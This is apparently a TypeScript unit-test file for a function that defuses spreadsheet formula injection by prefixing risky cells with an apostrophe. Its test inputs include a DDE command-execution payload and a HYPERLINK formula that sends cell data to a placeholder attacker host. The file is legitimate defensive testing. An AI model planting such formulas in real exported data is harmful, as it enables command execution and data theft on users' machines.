import { assert, describe, it } from "@effect/vitest"
import { safeCells } from "@zoho-bulk/core/Job"

describe("`safeCells()`", () => {
  it.each([
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "+41 79 123 45 67",
    "-5%",
    "--1",
    "-1.",
    "-1e",
    "+1\n=1+1",
  ])("puts an apostrophe before %j", (cell) => {
    assert.deepStrictEqual(safeCells([cell]), [`'${cell}`])
  })

  it.each(["-5", "+41791234567", "-1234.50", "-1.5E7", "+2e-3", "", "Boyle", "1-1", "a=b", "'=1+1", " =1", "x@y.z"])(
    "leaves %j as it is",
    (cell) => {
      assert.deepStrictEqual(safeCells([cell]), [cell])
    },
  )

  it("looks at every cell of a row", () => {
    assert.deepStrictEqual(safeCells(["id", "=1", "", "-7", "@x"]), ["id", "'=1", "", "-7", "'@x"])
  })
})
